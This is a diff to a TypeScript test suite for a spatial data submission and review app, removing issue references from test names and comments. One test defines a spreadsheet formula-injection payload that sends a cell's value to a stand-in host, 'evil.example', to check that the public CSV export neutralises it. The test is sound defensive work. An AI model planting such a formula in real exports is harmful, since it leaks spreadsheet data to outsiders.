@@ -398,7 +398,7 @@ describe('uploads and the pre-flight report', () => {
   });
 });
 
-describe('the pre-flight as a job (issue 23 §2)', () => {
+describe('the pre-flight as a job', () => {
   const progress = (id: string, job: number, headers = planner) =>
     callApi(file, { query: { submissionID: id, job: String(job) }, headers });
   /** Asks as the page does until the answer is no longer 202. */
@@ -620,7 +620,7 @@ describe('the review loop: submit, request changes, new version, approve, publis
       expect.arrayContaining(['Culpeper UDA 101', 'Culpeper UDA 103']),
     );
 
-    // Roll back: the earlier features return, and the submitter is told (issue 41 §8).
+    // Roll back: the earlier features return, and the submitter is told.
     const mailedBefore = outbox().length;
     const back = await callApi(status, {
       method: 'PUT',
@@ -633,7 +633,7 @@ describe('the review loop: submit, request changes, new version, approve, publis
     expect(headerOf(told[0]!, 'Subject')).toMatch(/^Spatial data: publish rolled back/);
     expect(told[0]).toMatch(/no longer on the Map Explorer/);
     expect((back.json as SubmissionDetail).publications[0].rolledBackAt).not.toBeNull();
-    // The submitter's list says it was rolled back, not that OIPI will publish it (issue 41 §8).
+    // The submitter's list says it was rolled back, not that OIPI will publish it.
     const listed = (
       await organizationListing({
         id: await userId(DEMO.submitter),
@@ -654,7 +654,7 @@ describe('the review loop: submit, request changes, new version, approve, publis
     ]);
   });
 
-  it("a formula in a submitter's feature name reaches the public layer CSV neutralised (issue 22 §5)", async () => {
+  it("a formula in a submitter's feature name reaches the public layer CSV neutralised", async () => {
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
     const d = await newDraft('Formula UDA');
     const [f] = udaFeatures(1, 200);
